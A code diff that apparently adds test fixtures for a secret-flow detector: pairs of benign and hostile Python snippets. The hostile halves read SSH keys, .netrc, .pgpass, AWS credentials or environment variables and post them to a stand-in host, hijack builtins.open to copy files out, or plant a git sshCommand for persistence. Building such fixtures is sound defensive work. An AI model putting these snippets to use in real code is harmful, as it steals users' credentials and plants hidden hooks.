@@ -1,0 +1,55 @@
+import type { Pair } from "./code-pairs.table.ts";
+
+const HOME = `import logging\nimport logging.handlers\nimport pathlib\n\nlog = logging.getLogger("a")\n`;
+
+/** What carries private data: generators, loggers, functions put in the place of built-in ones. */
+export const CARRIED_PYTHON: readonly Pair[] = [
+  [
+    "what a generator hands out, and keys that one does",
+    `import pathlib\nimport requests\n\n\ndef texts():\n    for name in ("a.md", "b.md"):\n        yield pathlib.Path(name).read_text()\n\n\nfor text in texts():\n    requests.post("https://a.example.net", data=text)\n`,
+    `import pathlib\nimport requests\n\n\ndef texts():\n    for name in (".netrc", ".pgpass"):\n        yield (pathlib.Path.home() / name).read_text()\n\n\nfor text in texts():\n    requests.post("https://a.example.net", data=text)\n`,
+    "secret-flow",
+  ],
+  [
+    "generators one behind the other",
+    `import requests\n\n\ndef rows():\n    yield from open("a.csv")\n\n\nrequests.post("https://a.example.net", data="".join(r for r in rows()))\n`,
+    `import os\nimport requests\n\n\ndef rows():\n    yield from open(os.path.expanduser("~/.aws/credentials"))\n\n\ndef more():\n    yield from rows()\n\n\nrequests.post("https://a.example.net", data="".join(r for r in more()))\n`,
+    "secret-flow",
+  ],
+  [
+    "a resource that a generator opens and closes",
+    `import contextlib\nimport requests\n\n\n@contextlib.contextmanager\ndef opened():\n    with open("a.csv") as f:\n        yield f\n\n\nwith opened() as f:\n    requests.post("https://a.example.net", data=f.read())\n`,
+    `import contextlib\nimport pathlib\nimport requests\n\n\n@contextlib.contextmanager\ndef opened():\n    with open(pathlib.Path.home() / ".ssh" / "id_rsa") as f:\n        yield f\n\n\nwith opened() as f:\n    requests.post("https://a.example.net", data=f.read())\n`,
+    "secret-flow",
+  ],
+  [
+    "a log on another machine, and a key in it",
+    `${HOME}log.addHandler(logging.handlers.HTTPHandler("a.example.net", "/in", method="POST"))\nlog.info("%s rows", len(pathlib.Path("a.csv").read_text()))\n`,
+    `${HOME}log.addHandler(logging.handlers.HTTPHandler("a.example.net", "/in", method="POST"))\nlog.info("%s", (pathlib.Path.home() / ".netrc").read_text())\n`,
+    "secret-flow",
+  ],
+  [
+    "a method of a thing that a caller hands over",
+    `import requests\n\n\ndef load():\n    return open("a.csv").read()\n\n\ndef send(value):\n    requests.post("https://a.example.net", data=value.text.encode())\n`,
+    `import os\nimport requests\n\nCASES = {k: v for k, v in os.environ.items()}\n\n\nclass Sent:\n    def __set__(self, owner, value):\n        requests.post("https://a.example.net", data=repr(value.meta).encode())\n`,
+    "secret-flow",
+  ],
+  [
+    "a key in the header that basic authentication has, and among the data",
+    `import base64\nimport os\nimport urllib.request\n\nauth = base64.b64encode(("me:" + os.environ["LOG_KEY"]).encode()).decode()\nurllib.request.urlopen(urllib.request.Request("https://a.example.net", b"rows", {"Authorization": "Basic " + auth}))\n`,
+    `import base64\nimport os\nimport urllib.request\n\nauth = base64.b64encode(("me:" + os.environ["LOG_KEY"]).encode()).decode()\nurllib.request.urlopen(urllib.request.Request("https://a.example.net", auth.encode(), {"Accept": "*/*"}))\n`,
+    "secret-flow",
+  ],
+  [
+    "open with a count, and open with a copy that is sent",
+    `import builtins\n\nreal = builtins.open\n\n\ndef counted(name, *rest):\n    print(name)\n    return real(name, *rest)\n`,
+    `import builtins\nimport requests\n\nreal = builtins.open\n\n\ndef copied(name, *rest):\n    requests.post("https://a.example.net", data=real(name, "rb").read())\n    return real(name, *rest)\n\n\nbuiltins.open = copied\n`,
+    "secret-flow",
+  ],
+  [
+    "settings of a tool, and those of the repository that name programs",
+    `import pathlib\npathlib.Path("tool/config").write_text("a = 1")\n`,
+    `import os\nwith open(os.path.join(".git", "config"), "a") as f:\n    f.write("[core]\\n\\tsshCommand = sh a.sh\\n")\n`,
+    "persistence-write",
+  ],
+];
